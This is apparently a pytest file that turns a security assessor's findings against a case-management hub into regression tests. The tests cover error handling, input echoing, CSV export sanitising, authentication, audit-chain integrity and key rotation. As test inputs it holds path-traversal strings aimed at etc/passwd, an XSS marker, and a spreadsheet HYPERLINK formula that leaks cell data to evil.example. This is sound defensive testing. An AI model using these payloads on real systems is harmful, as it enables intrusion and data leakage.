"""What a 等保 level-3 assessor wrote up against a hub set up from the README (issue 42), one test per finding,
each failing on the main it was found on: the 500s, the echoed values, formula injection in exports, answers
that may be cached, the open docs and metrics, the admin key that skipped the second factor, weak passwords,
the unlimited old-password guess. In-process hubs (TestClient) with an injected clock."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from tests.hubkit import api_client

T = datetime(2026, 12, 7, 2, 0, tzinfo=UTC)
KEYS = {"admin": ("admin", None), "ops": ("operator", "district-a"), "edge": ("edge", None)}
ADMIN = {"Authorization": "Bearer key-admin"}
OPS = {"Authorization": "Bearer key-ops"}
EDGE = {"Authorization": "Bearer key-edge"}
HARDENED = ("content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy")


@pytest.fixture
def client(tmp_path):
    with api_client(f"sqlite:///{tmp_path / 'hub.sqlite'}", KEYS, T) as c:
        yield c


def _hardened(r) -> None:
    for h in HARDENED:
        assert h in r.headers, (r.status_code, h, dict(r.headers))


# ---- 4xx, never 500, with the same headers ---------------------------------------------------------------
@pytest.mark.parametrize("path", ["/board/%00", "/board/index.html%00.js", "/board/" + "a" * 5000,
                                  "/board/" + "%2e%2e%2f" * 3 + "etc%2fpasswd"])
def test_odd_file_names_on_the_board_are_404_with_the_headers(client, path):
    r = client.get(path)
    assert r.status_code == 404, (r.status_code, r.text[:200])
    _hardened(r)


def test_an_unpaired_surrogate_in_a_body_is_a_4xx_with_the_headers_and_stores_nothing(client):
    opened = client.post("/api/v1/cases", headers=OPS, json={"title": "井盖缺失", "grid": "grid-01",
                                                             "category": "city_management"})
    assert opened.status_code == 201, opened.text
    cid = opened.json()["id"]
    before = client.get(f"/api/v1/cases/{cid}", headers=OPS).json()
    raw = b'{"note": "x\\ud800y"}'
    r = client.post(f"/api/v1/cases/{cid}/comment", headers={**OPS, "Content-Type": "application/json"}, content=raw)
    assert r.status_code == 422, (r.status_code, r.text[:300])
    assert "ud800" not in r.text.lower() and "x\\ud800" not in r.text
    _hardened(r)
    low = client.post(f"/api/v1/cases/{cid}/comment", headers={**OPS, "Content-Type": "application/json"},
                      content=b'{"note": "\\udc00 alone"}')
    assert low.status_code == 422, low.text
    # a surrogate pair (an emoji written escaped) is fine
    ok = client.post(f"/api/v1/cases/{cid}/comment", headers={**OPS, "Content-Type": "application/json"},
                     content=b'{"note": "\\ud83d\\ude00 \\u5df2\\u5230\\u573a"}')
    assert ok.status_code == 200, ok.text
    after = client.get(f"/api/v1/cases/{cid}", headers=OPS).json()
    notes = [e["detail"].get("text") for e in after["timeline"] if e.get("action") == "comment"]
    assert notes == ["\U0001F600 已到场"], notes
    assert len(after["timeline"]) == len(before["timeline"]) + 1


def test_an_unexpected_error_is_a_500_with_the_headers_and_no_trace(client, monkeypatch):
    from hub.api import board

    monkeypatch.setattr(board, "BOARD", None)  # the page's folder gone: the handler itself fails
    r = client.get("/board/board.js")
    assert r.status_code == 500
    assert "secret" not in r.text and "Traceback" not in r.text
    assert r.json()["detail"]
    _hardened(r)


# ---- no 422 echoes a value ----------------------------------------------------------------------------
MARK = "<svg onload=alert(1)>zz-echo"


def test_refusals_do_not_echo_what_was_sent(client):
    device = {"id": "gas-1", "kind": "gas", "grid": MARK}
    answers = [
        client.put("/api/v1/devices/gas-1", headers=OPS, json=device),
        client.put("/api/v1/devices/gas-1", headers=OPS, json={**device, "grid": "grid-01", "id": MARK}),
        client.get("/api/v1/stats", headers=OPS, params={"since": "1800-01-01T00:00:00.424242"}),
        client.post("/api/v1/cases", headers=OPS, json={"title": "井盖缺失", "grid": MARK,
                                                        "category": "city_management"}),
        client.post("/api/v1/users", headers=ADMIN, json={"username": "li.na", "name": "李娜", "unit": MARK,
                                                         "role": "operator", "password": "Gw!Tq-73-lvNa"}),
        client.post("/api/v1/users", headers=ADMIN, json={"username": "li.na", "name": "李娜", "unit": "grid-01",
                                                         "role": MARK, "password": "Gw!Tq-73-lvNa"}),
    ]
    for r in answers:
        assert 400 <= r.status_code < 500, (r.status_code, r.text)
        assert "zz-echo" not in r.text and "1800-01-01" not in r.text and "424242" not in r.text, r.text


# ---- exports: formula-leading cells neutralised (OWASP CSV injection) -------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"详情")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1"]


def test_exported_cells_never_start_a_formula(client):
    for title in FORMULAS:
        r = client.post("/api/v1/cases", headers=OPS, json={"title": title, "grid": "grid-01",
                                                            "category": "city_management"})
        assert r.status_code == 201, r.text
    text = client.get("/api/v1/cases/export", headers=OPS).content.decode("utf-8-sig")
    titles = [row[9] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert sorted(titles) == sorted("'" + t for t in FORMULAS), titles
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(client.get("/api/v1/cases/export", headers=OPS,
                                             params={"format": "xlsx"}).content))
    cells = [row[9] for row in wb.active.iter_rows(min_row=2, values_only=True)]
    assert sorted(cells) == sorted("'" + t for t in FORMULAS), cells
    for row in wb.active.iter_rows(min_row=2):
        assert row[9].data_type == "s", row[9].data_type  # text, never a live formula


# ---- nothing personal or about cases cached -------------------------------------------------------------
def test_api_answers_with_personal_or_case_data_are_not_stored_by_caches(client):
    cid = client.post("/api/v1/cases", headers=OPS, json={"title": "占道经营", "grid": "grid-01",
                                                          "category": "city_management"}).json()["id"]
    png = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
           b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
    photo = client.post(f"/api/v1/cases/{cid}/photos", headers={**OPS, "Content-Type": "image/png"}, content=png)
    assert photo.status_code == 201, photo.text
    for path, h in (("/api/v1/me", OPS), ("/api/v1/cases", OPS), (f"/api/v1/cases/{cid}", OPS),
                    ("/api/v1/users", ADMIN), ("/api/v1/cases/export", OPS),
                    (photo.json()["photos"][0]["url"], OPS),
                    ("/api/v1/me", {"Authorization": "Bearer wrong"})):
        r = client.get(path, headers=h)
        assert "no-store" in r.headers.get("cache-control", ""), (path, r.status_code, r.headers.get("cache-control"))


# ---- the docs and metrics need a key, or a network that is let in -----------------------------------------
@pytest.mark.parametrize("path", ["/docs", "/redoc", "/openapi.json", "/metrics"])
def test_docs_and_metrics_need_a_key(client, path):
    r = client.get(path)
    assert r.status_code == 401, (path, r.status_code)
    _hardened(r)
    assert client.get(path, headers=OPS).status_code == 200


def test_a_configured_network_reads_metrics_without_a_key(tmp_path):
    # TestClient's peer is "testclient", which no network holds: a served hub is asked from 127.0.0.1
    from hub.api.opsdoors import Doors

    doors = Doors(["127.0.0.0/8", "10.1.2.0/24"])
    assert doors.open_to("127.0.0.1") and doors.open_to("10.1.2.9")
    assert not doors.open_to("10.1.3.9") and not doors.open_to("testclient") and not Doors([]).open_to("127.0.0.1")


# ---- no administrator session without two factors -----------------------------------------------------------
def test_the_admin_key_gives_no_session_on_the_board_or_the_api(client):
    for cookie in (True, False):
        r = client.post("/api/v1/login", json={"key": "key-admin", "cookie": cookie})
        assert r.status_code == 401, r.text
        assert "gw_session" not in r.cookies
    assert client.get("/api/v1/users", headers=ADMIN).status_code == 200  # a machine's key still works as one
    audit = client.get("/api/v1/audit", headers=ADMIN, params={"action": "sign_in"}).json()
    assert [(a["actor"], a["outcome"]) for a in audit] == [("key", "refused"), ("key", "refused")]


def test_hub_init_binds_the_admin_key_to_this_host_and_turns_on_expiry_and_operators_second_factor(tmp_path):
    from hub.boot.init import init_hub
    from hub.config import load_hub_config

    made = init_hub(tmp_path / "etc", database=f"sqlite:///{tmp_path / 'hub.sqlite'}")
    cfg = load_hub_config(made.config)
    admin = next(k for k in cfg.keys if k.role == "admin")
    assert admin.sources == ["127.0.0.1/32", "::1/128"]
    assert cfg.sign_in.admin_key_sources == "require"
    assert cfg.sign_in.password_max_age == 90 * 86400
    assert set(cfg.sign_in.two_factor) >= {"admin", "operator"}


# ---- a password policy an assessor accepts --------------------------------------------------------------
WEAK = ["aaaaaaaaaa", "1111111111", "0000000000", "abcdefghij", "woaini1314", "admin123456", "gridwatch123",
        "Woaini@1314", "P@ssw0rd2026", "Qwer1234!@#$", "Zhangwei@1990", "Wangfang-0808", "Xiaoming!2026",
        "1qaz2WSX3edc", "Abc123456789"]


def test_a_long_password_is_judged_not_a_500(client):
    """zxcvbn refuses input over 72 characters: the policy judges the first 72 (a 500 before)."""
    long_pw = "Gw!Tq-73-lvNa" * 10
    r = client.post("/api/v1/users", headers=ADMIN, json={"username": "li.na", "name": "李娜", "unit": "grid-01",
                                                         "role": "operator", "password": long_pw})
    assert r.status_code == 201, r.text


@pytest.mark.parametrize("password", WEAK)
def test_weak_passwords_are_refused(client, password):
    r = client.post("/api/v1/users", headers=ADMIN, json={"username": "li.na", "name": "李娜", "unit": "grid-01",
                                                         "role": "operator", "password": password})
    assert r.status_code == 409 and r.json()["code"] == "weak_password", (password, r.text)
    assert password not in r.text


def test_a_strong_password_is_taken(client):
    r = client.post("/api/v1/users", headers=ADMIN, json={"username": "li.na", "name": "李娜", "unit": "grid-01",
                                                         "role": "operator", "password": "Gw!Tq-73-lvNa"})
    assert r.status_code == 201, r.text


def test_guessing_the_old_password_on_me_password_is_limited_like_sign_in(client):
    assert client.post("/api/v1/users", headers=ADMIN, json={
        "username": "li.na", "name": "李娜", "unit": "grid-01", "role": "viewer",
        "password": "Gw!Tq-73-lvNa"}).status_code == 201
    token = client.post("/api/v1/login", json={"username": "li.na", "password": "Gw!Tq-73-lvNa"}).json()["token"]
    me = {"Authorization": f"Bearer {token}"}
    answers = [client.post("/api/v1/me/password", headers=me, json={"old": f"Guess-{i}-pw!x", "new": "Fresh-pw-2027"})
               for i in range(11)]
    codes = [a.json().get("code") for a in answers]
    assert codes[:10] == ["wrong_password"] * 10 and codes[10] == "locked", codes  # limits.account_failures
    # the right old password does not help while the account is locked
    locked = client.post("/api/v1/me/password", headers=me, json={"old": "Gw!Tq-73-lvNa", "new": "Fresh-pw-2027"})
    assert locked.json()["code"] == "locked"
    # and the client is turned away after limits.auth_failures wrong ones (20), whatever the account
    for i in range(9):
        client.post("/api/v1/me/password", headers=me, json={"old": f"Other-{i}-pw!x", "new": "Fresh-pw-2027"})
    assert client.post("/api/v1/me/password", headers=me,
                       json={"old": "x-Other-pw!9", "new": "Fresh-pw-2027"}).status_code == 429


# ---- audit that a database writer cannot rewrite; refused keys recorded ---------------------------------------
def test_a_wrong_key_is_recorded_in_the_audit_trail(client):
    assert client.get("/api/v1/cases", headers={"Authorization": "Bearer guessed-key"}).status_code == 401
    assert client.get("/metrics", headers={"Authorization": "Bearer guessed-too"}).status_code == 401
    got = client.get("/api/v1/audit", headers=ADMIN, params={"action": "key_refused"}).json()
    assert [(a["actor"], a["outcome"], a["target"], a["detail"]["reason"]) for a in got] == [
        ("key", "refused", "GET /metrics", "unknown_key"), ("key", "refused", "GET /api/v1/cases", "unknown_key")]
    assert all(a["address"] == "testclient" for a in got)
    assert "guessed" not in str(got)


def test_a_rewritten_audit_tail_and_head_are_detected_without_the_key(client):
    """Someone who can write the database (not read the key file) rewrites the last records and the head
    with their own hashes, as the plain SHA-256 chain let them: `verify` names the first rewritten one."""
    from sqlalchemy.orm import Session

    from hub.audit.trail import digest, verify
    from hub.store.models import AuditHead, AuditRow

    for i in range(5):
        client.post("/api/v1/login", json={"username": f"nobody-{i}", "password": "x"})
    engine = client.app.state.hub.store.engine
    n, broken = verify(engine)
    assert n >= 5 and broken == []
    with Session(engine) as s, s.begin():
        rows = list(s.query(AuditRow).order_by(AuditRow.seq))
        seqs = [r.seq for r in rows[-3:]]
        prev = rows[-4].hash
        for row in rows[-3:]:  # the last three rewritten: another name, then each hash made again
            row.actor = "someone-else"
            row.mac = None
            row.prev_hash = prev
            row.hash = prev = digest(prev, row.seq, row.at, row)
        s.get(AuditHead, 1).last_hash = prev
    n, broken = verify(engine)
    assert [b.seq for b in broken] == seqs, broken
    assert "without the audit key" in broken[0].reason


def test_a_forged_key_id_is_named_and_a_record_under_the_right_key_id_but_wrong_key_is_altered(client):
    import hashlib
    import hmac

    from sqlalchemy.orm import Session

    from hub.audit.trail import _body, verify
    from hub.store.models import AuditHead, AuditRow

    client.post("/api/v1/login", json={"username": "nobody", "password": "x"})
    engine = client.app.state.hub.store.engine
    with Session(engine) as s, s.begin():
        last = s.query(AuditRow).order_by(AuditRow.seq.desc()).first()
        last.actor = "someone-else"  # signed again with a key the writer made up, under the real key's id
        last.hash = hmac.new(b"guessed", last.prev_hash.encode() + _body(last.seq, last.at, last),
                             hashlib.sha256).hexdigest()
        s.get(AuditHead, 1).last_hash = last.hash
        seq = last.seq
    n, broken = verify(engine)
    assert [(b.seq, b.reason.split(":")[0]) for b in broken] == [(seq, "altered")], broken


def test_the_chain_rotates_between_sha256_hmac_sha256_and_hmac_sm3_with_no_record_lost(tmp_path):
    """Plain records (before keys), then HMAC-SHA256 under key A, then HMAC-SM3 under key B with A kept to
    verify: every record checks; dropping A names A's records; a plain record after keyed ones is named."""
    from hub.audit import trail
    from hub.boot.store import open_store
    from hub.config import HubConfig

    cfg = HubConfig.model_validate({"database": f"sqlite:///{tmp_path / 'hub.sqlite'}", "keys": [
        {"name": "edge", "role": "edge", "hash": "sha256:" + "0" * 64}]}).resolved(tmp_path.parent.parent / "configs")
    from tests.hubkit import ROOT

    cfg = cfg.model_copy(update={"org": ROOT / "configs/org.yaml", "sla": ROOT / "configs/sla.yaml",
                                 "calendars": ROOT / "configs/calendars"})
    store = open_store(cfg)
    try:
        a, b = b"A" * 32, b"B" * 32
        trail.configure([])  # records from before keys
        for i in range(3):
            trail.append(store, trail.Act(f"p{i}", "sign_in"))
        trail.configure([a], "hmac-sha256")
        for i in range(3):
            trail.append(store, trail.Act(f"a{i}", "sign_in"))
        trail.configure([b, a], "hmac-sm3")
        for i in range(3):
            trail.append(store, trail.Act(f"b{i}", "sign_in"))
        n, broken = trail.verify(store.engine)
        assert n == 9 + _opened(store) and broken == [], broken
        macs = [r.mac for r in trail.listing(store, limit=9)][::-1]
        assert macs[:3] == [None] * 3 and {m.split("/")[0] for m in macs[3:6]} == {"hmac-sha256"}
        assert {m.split("/")[0] for m in macs[6:]} == {"hmac-sm3"}
        trail.configure([b], "hmac-sm3")  # key A dropped: its records cannot be verified, and say so
        n, broken = trail.verify(store.engine)
        assert len(broken) == 3 and all("a key this process was not given" in x.reason for x in broken)
        trail.configure([])  # a process without keys writes a plain record after keyed ones: named
        trail.append(store, trail.Act("plain", "sign_in"))
        trail.configure([b, a], "hmac-sm3")
        n, broken = trail.verify(store.engine)
        assert [x.reason.split(":")[0] for x in broken] == ["not keyed after keyed records"], broken
    finally:
        store.engine.dispose()
        trail.configure([])


def _opened(store) -> int:
    from hub.audit import trail

    return len([r for r in trail.listing(store, limit=1000) if r.actor not in {
        *(f"p{i}" for i in range(3)), *(f"a{i}" for i in range(3)), *(f"b{i}" for i in range(3))}])


# ---- the data key in one place, and a hub given another one refuses to start --------------------------------
def test_two_hubs_of_one_database_with_configs_in_different_folders_share_one_key_or_refuse(tmp_path, monkeypatch):
    import subprocess
    import sys

    import yaml

    from tests.hubkit import ROOT

    db = tmp_path / "data" / "hub.sqlite"
    db.parent.mkdir()
    base = {"database": f"sqlite:///{db}", "org": str(ROOT / "configs/org.yaml"),
            "sla": str(ROOT / "configs/sla.yaml"), "calendars": str(ROOT / "configs/calendars"),
            "keys": [{"name": "edge", "role": "edge", "hash": "sha256:" + "0" * 64}]}
    for name in ("etc-a", "etc-b"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "hub.yaml").write_text(yaml.safe_dump(base))
    env = {k: v for k, v in __import__("os").environ.items() if not k.startswith("GRIDWATCH_")}
    for name in ("GRIDWATCH_DATA_KEY", "GRIDWATCH_DATA_KEYS", "GRIDWATCH_AUDIT_KEY", "GRIDWATCH_AUDIT_KEYS"):
        monkeypatch.delenv(name, raising=False)  # the key files, as a hub set up from the README has them

    def check(name: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "gridwatch", "hub", "check", "-c",
                               str(tmp_path / name / "hub.yaml")], capture_output=True, text=True, env=env, cwd=ROOT)

    from hub.boot.store import open_store
    from hub.config import load_hub_config

    a = load_hub_config(tmp_path / "etc-a" / "hub.yaml")
    b = load_hub_config(tmp_path / "etc-b" / "hub.yaml")
    assert a.data_key_file == b.data_key_file == db.parent / "data.key"  # beside the database, for both
    assert a.audit.key_file == b.audit.key_file == db.parent / "audit.key"
    open_store(a).engine.dispose()
    assert check("etc-b").returncode == 0, check("etc-b").stdout
    # a hub given another key (here: its own file) is refused at start and by hub check
    other = tmp_path / "etc-b" / "hub.yaml"
    other.write_text(yaml.safe_dump({**base, "data_key_file": str(tmp_path / "etc-b" / "data.key")}))
    with pytest.raises(Exception, match="data key"):
        open_store(load_hub_config(other))
    r = check("etc-b")
    assert r.returncode != 0 and "data key" in r.stdout + r.stderr, r.stdout + r.stderr


# ---- 三权分立: three administrators, each refused what is the others' ---------------------------------------
def _admin_session(client, username: str, role: str) -> dict[str, str]:
    """An administrator made by the machine key, enrolled in TOTP, signed in with both factors."""
    import pyotp

    r = client.post("/api/v1/users", headers=ADMIN, json={"username": username, "name": username, "unit": None,
                                                         "role": role, "password": "Gw!Tq-73-lvNa"})
    assert r.status_code == 201, r.text
    first = client.post("/api/v1/login", json={"username": username, "password": "Gw!Tq-73-lvNa"}).json()
    assert first["limited"] == "two_factor"  # an administrator always enrols a second factor
    limited = {"Authorization": f"Bearer {first['token']}"}
    totp = pyotp.TOTP(client.post("/api/v1/me/two-factor", headers=limited).json()["secret"])
    assert client.post("/api/v1/me/two-factor/confirm", headers=limited,
                       json={"code": totp.at(client.clock["now"])}).status_code == 200
    client.clock["now"] += __import__("datetime").timedelta(seconds=31)  # a fresh step for the sign-in
    full = client.post("/api/v1/login", json={"username": username, "password": "Gw!Tq-73-lvNa",
                                              "code": totp.at(client.clock["now"])})
    assert full.status_code == 200 and full.json()["limited"] is None, full.text
    return {"Authorization": f"Bearer {full.json()['token']}"}


SEPARATION = [  # (what, method, path, body) -> who of sysadmin, secadmin, auditor may
    ("list accounts", "GET", "/api/v1/users", None, {"sysadmin", "secadmin"}),
    ("make an operator", "POST", "/api/v1/users", {"username": "op.new", "name": "新人", "unit": "grid-01",
                                                   "role": "operator", "password": "Gw!Tq-73-lvNa"}, {"sysadmin"}),
    ("disable an operator", "PATCH", "/api/v1/users/op.old", {"disabled": True}, {"sysadmin"}),
    ("make an auditor", "POST", "/api/v1/users", {"username": "aud.new", "name": "审计员", "unit": None,
                                                  "role": "auditor", "password": "Gw!Tq-73-lvNa"}, {"secadmin"}),
    ("make an operator an auditor", "PATCH", "/api/v1/users/op.old", {"role": "auditor", "unit": None},
     {"secadmin"}),
    ("reset a password of an auditor", "PATCH", "/api/v1/users/aud.x", {"password": "Gw!Tq-73-lvNb"},
     {"secadmin"}),
    ("unlock an account", "POST", "/api/v1/users/op.old/unlock", None, {"secadmin"}),
    ("reset a second factor", "DELETE", "/api/v1/users/op.old/two-factor", None, {"secadmin"}),
    ("list keys", "GET", "/api/v1/keys", None, {"secadmin"}),
    ("make a key", "POST", "/api/v1/keys", {"name": "wall-2", "role": "viewer", "unit": "district-a"},
     {"secadmin"}),
    ("read the audit trail", "GET", "/api/v1/audit", None, {"auditor"}),
    ("set someone's contact points", "PUT", "/api/v1/users/op.old/contacts", {"mobile": "13800000000"},
     {"sysadmin"}),
    ("read cases", "GET", "/api/v1/cases", None, set()),
]


def test_three_administrators_each_refused_what_is_the_others(client):
    """The table above, row by row on one hub (the three administrators enrolled once): the role allowed does
    it, each other role is refused (403) before and after."""
    assert client.post("/api/v1/users", headers=ADMIN, json={
        "username": "op.old", "name": "老网格员", "unit": "grid-01", "role": "operator",
        "password": "Gw!Tq-73-lvNa"}).status_code == 201
    assert client.post("/api/v1/users", headers=ADMIN, json={
        "username": "aud.x", "name": "另一审计员", "unit": None, "role": "auditor",
        "password": "Gw!Tq-73-lvNa"}).status_code == 201
    sessions = {role: _admin_session(client, role[:3], role) for role in ("sysadmin", "secadmin", "auditor")}
    for what, method, path, body, allowed in SEPARATION:
        for role, h in sessions.items():  # every refusal first
            if role not in allowed:
                r = client.request(method, path, headers=h, json=body)
                assert r.status_code == 403, (what, role, r.status_code, r.text)
        for role in allowed:  # then the one allowed does it
            r = client.request(method, path, headers=sessions[role], json=body)
            assert r.status_code < 300, (what, role, r.status_code, r.text)


def test_people_cannot_be_given_the_machines_admin_role_and_an_upgrade_maps_admin_to_sysadmin(client, tmp_path):
    r = client.post("/api/v1/users", headers=ADMIN, json={"username": "root.x", "name": "x", "unit": None,
                                                         "role": "admin", "password": "Gw!Tq-73-lvNa"})
    assert r.status_code == 422
    from sqlalchemy import text

    from hub.store.db import make_engine, migrate

    engine = make_engine(f"sqlite:///{tmp_path / 'old.sqlite'}")
    migrate(engine, "0018")
    with engine.begin() as conn:
        conn.execute(text("INSERT INTO users (username, name, unit, role, password_hash, disabled, created_at, "
                          "updated_at) VALUES ('root', 'root', NULL, 'admin', 'x', 0, '2026-01-01', '2026-01-01')"))
    migrate(engine)
    with engine.connect() as conn:
        assert conn.execute(text("SELECT role FROM users WHERE username = 'root'")).scalar() == "sysadmin"
    engine.dispose()


# ---- 国密: SM4 for contact points, HMAC-SM3 for the chain, rotating both ways -----------------------------------
def test_contact_points_rotate_from_fernet_to_sm4_and_back_with_nothing_lost(tmp_path):
    import base64
    import subprocess
    import sys

    from cryptography.fernet import Fernet
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
    from sqlalchemy import text

    from hub.people.accounts import People
    from hub.store import datakey
    from hub.store.db import make_engine, migrate

    out = subprocess.run([sys.executable, "-m", "gridwatch", "hub", "hash-key", "--data-key", "--sm4"],
                         capture_output=True, text=True, check=True).stdout.strip()
    assert out.startswith("sm4:") and len(out) == 4 + 32
    fernet, sm4, fernet2 = Fernet.generate_key(), out.encode(), Fernet.generate_key()
    engine = make_engine(f"sqlite:///{tmp_path / 'hub.sqlite'}")
    migrate(engine)
    numbers = [f"1380000{i:04d}" for i in range(20)]
    try:
        datakey.configure([fernet])
        with engine.begin() as conn:
            for i, n in enumerate(numbers):
                conn.execute(text("INSERT INTO users (username, name, role, password_hash, disabled, created_at, "
                                  "updated_at) VALUES (:u, :u, 'viewer', 'x', 0, '2026-12-07', '2026-12-07')"),
                             {"u": f"p{i}"})
                conn.execute(text("INSERT INTO contacts (username, mobile, email, updated_at) "
                                  "VALUES (:u, :m, :e, '2026-12-07')"),
                             {"u": f"p{i}", "m": datakey.seal(n), "e": datakey.seal(f"p{i}@district.example")})

        def stored() -> list[str]:
            with engine.connect() as conn:
                return [r[0] for r in conn.execute(text("SELECT mobile FROM contacts ORDER BY username"))]

        assert all(v.startswith("enc:") for v in stored())
        datakey.configure([sm4, fernet])  # SM4 put first: the next start re-seals everything with it
        assert People.seal_contacts(engine) == 20
        values = stored()
        assert all(v.startswith("sm4:") for v in values) and not any(n in "".join(values) for n in numbers)
        # what is stored is SM4-GCM under that key, as GB/T 32907 defines the cipher: opened here by hand
        kid, _, b64 = values[0][4:].partition(":")
        raw = base64.b64decode(b64)
        dec = Cipher(algorithms.SM4(bytes.fromhex(out[4:])), modes.GCM(raw[:12], raw[-16:])).decryptor()
        dec.authenticate_additional_data(kid.encode())
        assert sorted(numbers).__contains__((dec.update(raw[12:-16]) + dec.finalize()).decode())
        datakey.configure([sm4])  # the Fernet key dropped: SM4 alone opens them all
        assert sorted(datakey.unseal(v) for v in stored()) == sorted(numbers)
        datakey.configure([fernet2, sm4])  # and back to Fernet with a new key
        assert People.seal_contacts(engine) == 20
        assert all(v.startswith("enc:") for v in stored())
        datakey.configure([fernet2])
        assert sorted(datakey.unseal(v) for v in stored()) == sorted(numbers)
        with pytest.raises(ValueError):  # a tampered SM4 value does not open
            datakey.configure([sm4])
            datakey.unseal(values[0][:-6] + ("A" if values[0][-6] != "A" else "B") + values[0][-5:])
    finally:
        engine.dispose()
        import os

        datakey.configure([os.environ["GRIDWATCH_DATA_KEY"].encode()])
